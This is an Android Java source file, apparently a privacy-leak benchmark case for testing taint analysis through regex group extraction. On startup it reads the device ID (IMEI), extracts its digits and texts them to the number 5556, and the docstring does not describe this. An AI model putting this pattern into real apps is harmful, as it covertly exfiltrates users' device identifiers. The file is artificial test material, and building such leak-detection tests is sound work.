package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** A group of a pattern. */
public class Matched extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Matcher m = Pattern.compile("(\\d+)").matcher(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        if (m.find()) SmsManager.getDefault().sendTextMessage("5556", null, m.group(1), null, null);
    }
}
